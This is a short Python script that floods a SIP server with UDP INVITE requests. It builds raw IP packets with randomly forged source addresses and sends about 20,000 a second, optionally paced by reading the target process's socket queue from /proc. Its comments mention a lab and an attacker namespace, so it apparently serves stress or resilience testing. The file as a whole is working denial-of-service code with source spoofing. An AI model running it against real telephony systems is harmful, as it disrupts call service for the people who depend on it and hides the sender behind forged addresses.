# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends INVITEs by UDP whose sources are made up: flood.py TARGET USER COUNT [PID]. Needs root; runs
in the namespace of the attacker. With the process of the target it is as fast as that reads, else
faster."""

import random
import socket
import struct
import sys
import time

BATCH, PAUSE = 100, 0.005   # about 20,000 a second


def datagram(target, user, number):
    # None of the lab's own networks.
    source = f"{random.randrange(20, 90)}.{random.randrange(256)}.{random.randrange(256)}." \
             f"{random.randrange(1, 255)}"
    body = (f"INVITE sip:{user}@{target} SIP/2.0\r\n"
            f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bKflood{number}\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:x{number}@{source}>;tag=f{number}\r\n"
            f"To: <sip:{user}@{target}>\r\nCall-ID: flood{number}\r\nCSeq: 1 INVITE\r\n"
            f"Contact: <sip:x{number}@{source}>\r\nContent-Length: 0\r\n\r\n").encode()
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(body), 0) + body
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number & 0xffff, 0, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(target))
    return header + udp


def is_waiting(pid):
    """Whether datagrams wait in a socket for port 5060 of the process's namespace."""
    with open(f"/proc/{pid}/net/udp", encoding="ascii") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    return any(row[1].endswith(":13C4") and not row[4].endswith(":00000000") for row in rows)


def main(target, user, count, pid=None):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(int(count)):
        raw.sendto(datagram(target, user, number), (target, 0))
        if number % BATCH == 0:
            time.sleep(PAUSE)
            while pid and is_waiting(pid):
                time.sleep(0.001)


if __name__ == "__main__":
    main(*sys.argv[1:])
